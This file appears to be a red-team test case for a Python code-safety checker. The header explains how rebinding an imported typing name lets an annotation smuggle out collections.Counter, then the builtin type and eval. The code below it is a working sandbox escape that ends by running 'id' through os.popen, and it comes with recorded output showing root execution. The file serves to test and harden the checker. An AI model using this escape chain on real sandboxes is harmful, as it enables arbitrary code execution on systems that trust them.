# expect: reject unbound
# line: 34
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_10)
# Mechanism: annotation_position lets a library class stand as 'a parameter of a library generic' 
# when the generic's base is library_name(): a name with an import binding (wk_bound_value), with 
# no question whether the program also binds it. 'from typing import List as G' then 'G = Grab()': 
# the annotation G[collections.Counter] is evaluated when the def runs and calls the program's 
# Grab.__getitem__(collections.Counter); box keeps the class. box[0].copy(P) = Counter.copy(P) = 
# the builtin type. No dunder name is given to a builtin at run time.
# Goal reached: collections.Counter and the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing
from typing import List as G

class P:
    pass

box = []

class Grab:
    def __getitem__(self, k):
        box.append(k)
        return int

G = Grab()

def f(x: G[collections.Counter]) -> None:
    return None

T = box[0].copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
